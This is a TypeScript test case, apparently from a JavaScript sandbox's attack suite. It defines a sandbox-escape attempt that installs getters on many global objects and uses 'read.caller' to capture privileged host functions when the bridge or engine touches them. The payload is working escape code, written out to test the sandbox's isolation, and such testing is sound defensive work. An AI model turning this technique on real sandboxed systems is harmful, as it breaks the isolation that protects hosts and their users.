import { attack } from '../attack.ts';

/** Getters on the global for every name that the bridge or an engine might look up while it works. */
export const escape = attack({
	grants: ['plain', 'direct'],
	source: `
		let got;
		let busy = false;
		const { defineProperty } = Object;
		for (const name of ['undefined_', 'JSON', 'Reflect', 'Promise', 'Error', 'TypeError', 'Map', 'Uint8Array', 'Symbol', 'queueMicrotask', 'process', 'Buffer', 'module', 'exports', 'performance', 'WebAssembly']) {
			const original = globalThis[name];
			try { defineProperty(globalThis, name, { configurable: true, get: function read() { if (!busy) { busy = true; try { got ??= loot(read.caller); } catch {} busy = false; } return original; } }); } catch {}
		}
		await plain.echo({ a: [1] });
		try { direct.fail(); } catch {}
		console.log({ b: new Map() });
		return got;
	`,
});
